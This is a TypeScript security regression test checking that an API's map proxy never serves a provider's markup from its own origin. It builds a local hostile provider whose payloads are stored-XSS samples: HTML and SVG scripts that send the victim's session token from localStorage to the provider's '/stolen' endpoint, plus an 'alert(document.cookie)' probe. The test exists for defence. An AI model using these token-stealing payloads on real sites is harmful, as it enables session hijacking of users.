import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser } from 'playwright-core';
import { readApi } from '@guest/read-api';
import { startTestApp, type TestApp } from '../support/test-app.ts';
import { http } from '../support/http.ts';
import { launchChromium } from './web/browser.ts';

// Issue 32 point 4: a map provider answering `text/html` had its page passed on as `text/html`,
// with no `nosniff` and no CSP, from the API's own origin, where its script read the web client's
// tokens. The attack again, with a hostile provider (the outside world: a local stand-in) whose
// every resource is a document with a script that sends the page's storage back to it, and
// headless Chromium opening the proxied URLs as a victim following a link would. Prints its
// figures as "issue 32 point 4, ...".

const STOLEN: string[] = [];
let providerUrl = '';

/** A document whose script, if it ever runs on the API's origin, sends the stored session home. */
const thief = () =>
  `<!DOCTYPE html><html><body><script>new Image().src = ${JSON.stringify(providerUrl)} + '/stolen?session=' + ` +
  `encodeURIComponent(localStorage.getItem('guest.session'));</script></body></html>`;

/** Each allowed resource shape, answered with markup the way a compromised provider could. */
const HOSTILE: Record<string, () => { type?: string; encoding?: string; body: Buffer }> = {
  '/style.json': () => ({ type: 'text/html; charset=utf-8', body: Buffer.from(thief()) }),
  '/tiles.json': () => ({ type: 'application/json', body: Buffer.from(thief()) }),
  '/relief.json': () => ({ body: Buffer.from(`\n  ${thief()}`) }),
  '/tiles/1/0/0.pbf': () => ({ type: 'application/octet-stream', body: Buffer.from(thief()) }),
  '/tiles/1/1/0.png': () => ({
    type: 'image/svg+xml',
    body: Buffer.from(
      `<svg xmlns="http://www.w3.org/2000/svg" onload="new Image().src='${providerUrl}/stolen?svg=1'"/>`,
    ),
  }),
  '/relief/1/0/0.webp': () => ({ type: 'application/xhtml+xml', body: Buffer.from(thief()) }),
  '/fonts/Open%20Sans/0-255.pbf': () => ({ type: 'text/html', encoding: 'gzip', body: gzipSync(thief()) }),
  '/sprites/sprite.json': () => ({ type: 'text/javascript', body: Buffer.from('alert(document.cookie)') }),
  // Compressed markup cannot be looked into: it goes out as the kind's own type, inert.
  '/sprites/sprite.png': () => ({ type: 'image/png', encoding: 'gzip', body: gzipSync(thief()) }),
};

/** Honest answers, to show the proxy still passes real resources, with its own content types. */
const HONEST: Record<string, { type: string; body: Buffer }> = {
  '/tiles/2/0/0.pbf': { type: 'application/vnd.mapbox-vector-tile', body: Buffer.from([0x1a, 0x03, 0x61, 0x62]) },
  '/sprites/honest.json': { type: 'text/plain', body: Buffer.from('{"icon":{"x":0,"y":0,"width":8,"height":8}}') },
  '/relief/2/0/0.png': { type: 'binary/octet-stream', body: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a]) },
};

let provider: Server;
let t: TestApp;
let browser: Browser;

beforeAll(async () => {
  provider = createServer((req, res) => {
    const url = req.url ?? '';
    if (url.startsWith('/stolen')) {
      STOLEN.push(url);
      return void res.writeHead(204).end();
    }
    const honest = HONEST[url];
    if (honest) return void res.writeHead(200, { 'content-type': honest.type }).end(honest.body);
    const hostile = HOSTILE[url]?.();
    if (!hostile) return void res.writeHead(404).end();
    const headers: Record<string, string> = {};
    if (hostile.type) headers['content-type'] = hostile.type;
    if (hostile.encoding) headers['content-encoding'] = hostile.encoding;
    res.writeHead(200, headers).end(hostile.body);
  });
  await new Promise<void>((resolve) => provider.listen(0, '127.0.0.1', resolve));
  providerUrl = `http://127.0.0.1:${(provider.address() as AddressInfo).port}`;
  t = await startTestApp({ apps: [readApi], config: { MAP_UPSTREAM_URL: `${providerUrl}/` } });
  browser = await launchChromium();
}, 120_000);
afterAll(async () => {
  await browser?.close();
  await t?.close();
  await new Promise((resolve) => provider?.close(resolve));
});

describe("the map proxy never serves a provider's document from the API's origin (issue 32 point 4)", () => {
  it('refuses markup, whatever its label, and marks every answer nosniff and sandboxed', async () => {
    const refused: string[] = [];
    for (const path of Object.keys(HOSTILE)) {
      const res = await http(t.url, 'GET', `/v1/map${path}`, { headers: { 'accept-encoding': 'identity' } });
      expect(res.headers.get('x-content-type-options'), path).toBe('nosniff');
      expect(res.headers.get('content-security-policy'), path).toBe('sandbox');
      expect(res.headers.get('content-type'), path).not.toMatch(/html|xml|javascript/);
      if (res.status === 502) {
        expect(res.body.error, path).toMatchObject({ code: 'bad_gateway', details: { reason: 'not_a_map_resource' } });
        refused.push(path);
      }
    }
    console.info(
      `issue 32 point 4, hostile provider answers refused: ${refused.length} of ${Object.keys(HOSTILE).length}`,
    );
    // All but the compressed one labelled as an image, which goes out under the kind's own type.
    expect(refused.sort()).toEqual(
      Object.keys(HOSTILE)
        .filter((p) => p !== '/sprites/sprite.png')
        .sort(),
    );
    const compressed = await http(t.url, 'GET', '/v1/map/sprites/sprite.png');
    expect(compressed.headers.get('content-type')).toBe('image/png');
  });

  it('passes real resources under the content type of their kind, not the provider’s', async () => {
    const expected: Record<string, string> = {
      '/tiles/2/0/0.pbf': 'application/x-protobuf',
      '/sprites/honest.json': 'application/json',
      '/relief/2/0/0.png': 'image/png',
    };
    for (const [path, type] of Object.entries(expected)) {
      const res = await fetch(`${t.url}/v1/map${path}`);
      expect(res.status, path).toBe(200);
      expect(res.headers.get('content-type'), path).toBe(type);
      expect(res.headers.get('x-content-type-options'), path).toBe('nosniff');
      expect(res.headers.get('content-security-policy'), path).toBe('sandbox');
      expect(Buffer.from(await res.arrayBuffer()).equals(HONEST[path]!.body), path).toBe(true);
    }
    // Errors of the route carry the headers too.
    const missing = await http(t.url, 'GET', '/v1/map/tiles/3/0/0.pbf');
    expect(missing.status).toBe(404);
    expect(missing.headers.get('content-security-policy')).toBe('sandbox');
  });

  it('a browser sent to every proxied URL runs none of the provider’s scripts', { timeout: 60_000 }, async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    // The victim's session as the web client keeps it on the API's origin.
    await page.goto(`${t.url}/livez`);
    await page.evaluate(() => localStorage.setItem('guest.session', 'victim-refresh-token'));
    let opened = 0;
    for (const path of Object.keys(HOSTILE)) {
      try {
        // `load` waits for the image a script would have added: its request is in by then.
        await page.goto(`${t.url}/v1/map${path}`, { waitUntil: 'load' });
      } catch (err) {
        // A binary type is downloaded, never shown: nothing runs either.
        expect(String(err)).toMatch(/Download is starting|net::ERR_ABORTED/);
      }
      opened++;
    }
    await context.close();
    console.info(
      `issue 32 point 4, proxied URLs opened in Chromium: ${opened}; scripts that reached the provider: ${STOLEN.length}`,
    );
    expect(opened).toBe(Object.keys(HOSTILE).length);
    expect(STOLEN).toEqual([]);
  });
});
